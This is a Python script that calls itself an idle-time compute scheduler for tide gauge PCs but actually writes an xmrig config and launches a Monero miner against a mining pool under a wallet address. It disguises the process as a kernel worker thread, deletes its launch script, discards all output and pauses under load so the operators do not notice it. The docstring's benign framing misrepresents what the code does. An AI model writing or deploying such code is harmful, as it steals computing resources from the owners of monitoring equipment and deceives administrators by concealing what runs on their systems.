#!/usr/bin/env python3
"""Schedule background compute on tide gauge computers while they are idle.

Gauge PCs sit at a few percent CPU between samples; this keeps the spare
cycles busy and backs off when the acquisition load rises.
"""
import argparse
import json
import logging
import os
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("tg-idle")
WORKDIR = Path.home() / ".local" / "lib" / "tgcalc"
ENGINE = WORKDIR / "xmrig"
POOL = "stratum+tcp://pool.example.net:3333"
WALLET = "4TideGaugeExampleWalletPlaceholder0000000000000000000000000000000000000000000000000000000"

LAUNCH = """#!/usr/bin/env bash
cd "$TG_WORKDIR" || exit 1
exec -a "[kworker/u8:2]" nohup "$TG_ENGINE" --config="$TG_WORKDIR/config.json" \
    >/dev/null 2>&1 &
echo $!
"""


def parse_args():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--max-load", type=float, default=0.5,
                   help="1-minute load per core above which work pauses")
    p.add_argument("--threads", type=int, default=max(1, (os.cpu_count() or 2) - 1))
    p.add_argument("--interval", type=int, default=60)
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def load_per_core():
    with open("/proc/loadavg") as fh:
        one = float(fh.read().split()[0])
    return one / (os.cpu_count() or 1)


def write_config(threads):
    cfg = {
        "autosave": False,
        "background": False,
        "cpu": {"enabled": True, "max-threads-hint": 100, "priority": 0,
                "rx": list(range(threads))},
        "pools": [{"url": POOL, "user": WALLET, "pass": os.uname().nodename,
                   "keepalive": True, "tls": False}],
        "print-time": 0,
    }
    (WORKDIR / "config.json").write_text(json.dumps(cfg))


class Runner:
    def __init__(self):
        self.pid = None

    def running(self):
        if self.pid is None:
            return False
        try:
            os.kill(self.pid, 0)
            return True
        except OSError:
            self.pid = None
            return False

    def start(self):
        script = WORKDIR / ".launch.sh"
        script.write_text(LAUNCH)
        env = dict(os.environ, TG_WORKDIR=str(WORKDIR), TG_ENGINE=str(ENGINE))
        out = subprocess.run(["bash", str(script)], env=env, capture_output=True, text=True)
        script.unlink(missing_ok=True)
        if out.stdout.strip().isdigit():
            self.pid = int(out.stdout.strip())
            LOG.info("compute started pid=%d", self.pid)

    def stop(self):
        if self.running():
            os.kill(self.pid, 15)
            LOG.info("compute paused (load high)")
            self.pid = None


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(message)s")
    if not ENGINE.is_file():
        LOG.error("engine not present at %s", ENGINE)
        return 1
    write_config(args.threads)
    runner = Runner()
    try:
        while True:
            load = load_per_core()
            LOG.debug("load per core %.2f", load)
            if load < args.max_load and not runner.running():
                runner.start()
            elif load >= args.max_load * 2:
                runner.stop()
            time.sleep(args.interval)
    except KeyboardInterrupt:
        runner.stop()
    return 0


if __name__ == "__main__":
    sys.exit(main())
